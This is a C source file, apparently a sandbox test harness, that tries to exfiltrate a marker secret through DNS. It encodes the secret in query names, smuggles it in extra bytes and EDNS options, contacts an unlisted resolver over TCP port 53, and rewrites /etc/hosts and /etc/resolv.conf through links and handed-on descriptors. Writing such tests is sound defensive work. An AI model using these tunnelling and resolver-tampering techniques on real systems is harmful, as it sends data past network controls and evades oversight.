/*
 * DNS: secrets in names, and servers of one's choice. A server outside, which the session's policy names for an allowed name,
 * notes as $OUT/got that it was asked for what has the secret in it; another one answers by TCP at port 53.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>

#include "attack.h"

#define SECRET "secretlabel"
/* Of loopback, and not where a machine's own resolver listens. */
#define ELSEWHERE "127.53.0.1"

static struct sockaddr_in v4(const char *addr, int port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};

	inet_pton(AF_INET, addr, &a.sin_addr);
	return a;
}

static size_t question(unsigned char *msg, const char *name, int type)
{
	static const unsigned char head[12] = {1, 2, 1, 0, 0, 1};
	size_t at = sizeof(head);

	memcpy(msg, head, sizeof(head));
	while (*name) {
		size_t n = strcspn(name, ".");

		msg[at++] = (unsigned char)n;
		memcpy(msg + at, name, n);
		at += n;
		name += n + (name[n] == '.');
	}
	memcpy(msg + at, "\0\0\0\0\1", 5);
	msg[at + 2] = (unsigned char)type;
	return at + 5;
}

/* Asks the server itself, and, as programs do, the one of port 53. */
static void ask(const unsigned char *msg, size_t len)
{
	struct sockaddr_in a[] = {v4("127.0.0.1", atoi(getenv("PORT"))), v4("192.0.2.53", 53)};

	for (int i = 0; i < 2; i++)
		for (int tcp = 0; tcp < 2; tcp++) {
			int fd = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_NONBLOCK, 0);
			unsigned char framed[1024] = {(unsigned char)(len >> 8), (unsigned char)len};
			struct pollfd p = {fd, POLLOUT, 0};

			memcpy(framed + 2, msg, len);
			connect(fd, (struct sockaddr *)&a[i], sizeof(*a));
			poll(&p, 1, 200);
			send(fd, tcp ? framed : msg, len + (tcp ? 2 : 0), MSG_NOSIGNAL);
			p.events = POLLIN;
			poll(&p, 1, 200);
			close(fd);
		}
}

static int arrived(void)
{
	for (int i = 0; i < 20; i++, usleep(10000))
		if (there(out("got")))
			return WON;
	return LOST;
}

static int tunnel(int argc, char **argv)
{
	static const char *const names[] = {SECRET ".no.test", SECRET ".open.test",
					    "open.test." SECRET ".test", SECRET,
					    "a." SECRET ".open.test.no.test"};
	static const int types[] = {1, 28, 255, 16, 12, 10};
	unsigned char msg[512];

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
		for (size_t t = 0; t < sizeof(types) / sizeof(*types); t++)
			ask(msg, question(msg, names[i], types[t]));
	return arrived();
}

/* Types that the stub does not ask for, of a name that is allowed; what is behind the question; and the id. */
static int smuggle(int argc, char **argv)
{
	unsigned char msg[512];
	size_t n = question(msg, "open.test", 1);

	memcpy(msg + n, SECRET, strlen(SECRET));
	ask(msg, n + strlen(SECRET));
	/* As an additional record, with an option of its own. */
	memcpy(msg + n, "\0\0\x29\4\xd0\0\0\0\0\0\x0f\xfd\xe9\0\x0b" SECRET, 15 + strlen(SECRET));
	msg[11] = 1;
	ask(msg, n + 15 + strlen(SECRET));
	return arrived();
}

/* A server that the policy does not name, by TCP at the port where all may ask. */
static int other_server(int argc, char **argv)
{
	struct sockaddr_in a = v4(ELSEWHERE, 53);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	unsigned char msg[512] = {0}, buf[512];
	size_t n = question(msg + 2, "open.test", 1);
	struct pollfd p = {fd, POLLIN, 0};
	ssize_t got;

	if (strcmp(getenv("AT53"), "1") != 0) {
		printf("# port 53 cannot be had\n");
		return SKIP;
	}
	msg[1] = (unsigned char)n;
	connect(fd, (struct sockaddr *)&a, sizeof(a));
	send(fd, msg, n + 2, MSG_NOSIGNAL);
	got = poll(&p, 1, 1000) == 1 ? recv(fd, buf, sizeof(buf), 0) : 0;
	return got > 0 && memmem(buf, (size_t)got, SECRET, strlen(SECRET)) ? WON : LOST;
}

/* --- The system's files about names, where the policy lets them be written --- */

/* No host is there, nor a way: it is refused, or the kernel says so. */
static int reach(void)
{
	struct sockaddr_in a = v4("198.51.100.9", 80);
	unsigned char msg[512];

	for (int i = 0; i < 2; i++) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0 || errno != EPERM)
			return WON;
		close(fd);
		/* Once more when the gateway has read it. */
		usleep(1200000);
		ask(msg, question(msg, "open.test", 1));
	}
	return LOST;
}

#define HOSTS_LINE "198.51.100.9 open.test\n"

static int hosts_write(int argc, char **argv)
{
	return write_file("/etc/hosts", HOSTS_LINE) ? reach() : LOST;
}

static int hosts_replace(int argc, char **argv)
{
	return write_file("/etc/hosts.new", HOSTS_LINE) && rename("/etc/hosts.new", "/etc/hosts") == 0
		       ? reach()
		       : LOST;
}

/* The file is a link to what is here. */
static int hosts_linked(int argc, char **argv)
{
	return write_file("hosts", HOSTS_LINE) ? reach() : LOST;
}

/* So is this, to a link that is here. */
static int hosts_relinked(int argc, char **argv)
{
	return write_file("mine", HOSTS_LINE) && unlink("hosts") == 0 && symlink("mine", "hosts") == 0
		       ? reach()
		       : LOST;
}

/* Descriptor 3 was handed on. */
static int hosts_handed(int argc, char **argv)
{
	return write(3, HOSTS_LINE, strlen(HOSTS_LINE)) > 0 ? reach() : LOST;
}

static int has_server(bool written)
{
	unsigned char msg[512];
	struct sockaddr_in a = v4(ELSEWHERE, 53);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	size_t n = question(msg, SECRET ".open.test", 1);

	if (!written)
		return LOST;
	usleep(1200000);
	sendto(fd, msg, n, 0, (struct sockaddr *)&a, sizeof(a));
	for (int i = 0; i < 100; i++, usleep(10000))
		if (there(out("got")))
			return WON;
	return LOST;
}

static int server_write(int argc, char **argv)
{
	return has_server(write_file("/etc/resolv.conf", "nameserver " ELSEWHERE "\n"));
}

static int server_linked(int argc, char **argv)
{
	return has_server(write_file("resolv.conf", "nameserver " ELSEWHERE "\n"));
}

static const struct attack list[] = {
	{"hosts_write", hosts_write},
	{"hosts_replace", hosts_replace},
	{"hosts_linked", hosts_linked},
	{"hosts_relinked", hosts_relinked},
	{"hosts_handed", hosts_handed},
	{"server_write", server_write},
	{"server_linked", server_linked},
	{"tunnel", tunnel},
	{"smuggle", smuggle},
	{"other_server", other_server},
};

/* --- "serve", until killed --- */

static void note(const unsigned char *buf, ssize_t n)
{
	if (n > 0 && memmem(buf, (size_t)n, SECRET, strlen(SECRET)))
		write_file(out("got"), "x");
}

static int tcp_at(struct sockaddr_in *a)
{
	socklen_t len = sizeof(*a);
	int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)a, len) < 0 || listen(fd, 100) < 0)
		return -1;
	getsockname(fd, (struct sockaddr *)a, &len);
	return fd;
}

/* Whoever asks by TCP is told the secret. */
static void serve_tcp(int fd)
{
	unsigned char buf[1024];
	int c;

	while ((c = accept(fd, NULL, NULL)) >= 0) {
		struct timeval t = {0, 200000};

		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
		note(buf, recv(c, buf, sizeof(buf), 0));
		send(c, SECRET, strlen(SECRET), MSG_NOSIGNAL);
		close(c);
	}
	_exit(0);
}

static void serve_udp(int fd)
{
	unsigned char buf[1024];

	for (;;)
		note(buf, recv(fd, buf, sizeof(buf), 0));
}

static int serve(void)
{
	struct sockaddr_in a = v4("127.0.0.1", 0), b = v4(ELSEWHERE, 53);
	int tcp = tcp_at(&a), at53 = tcp_at(&b), udp = socket(AF_INET, SOCK_DGRAM, 0);
	int udp53 = socket(AF_INET, SOCK_DGRAM, 0);

	setpgid(0, 0);
	if (tcp < 0 || bind(udp, (struct sockaddr *)&a, sizeof(a)) < 0)
		broken("bind");
	printf("%d %d\n", ntohs(a.sin_port), at53 >= 0);
	fflush(stdout);
	if (fork() == 0)
		serve_tcp(tcp);
	if (at53 >= 0 && fork() == 0)
		serve_tcp(at53);
	if (bind(udp53, (struct sockaddr *)&b, sizeof(b)) == 0 && fork() == 0)
		serve_udp(udp53);
	serve_udp(udp);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "serve") == 0)
		return serve();
	return attack_main(list, sizeof(list) / sizeof(*list), argc, argv);
}
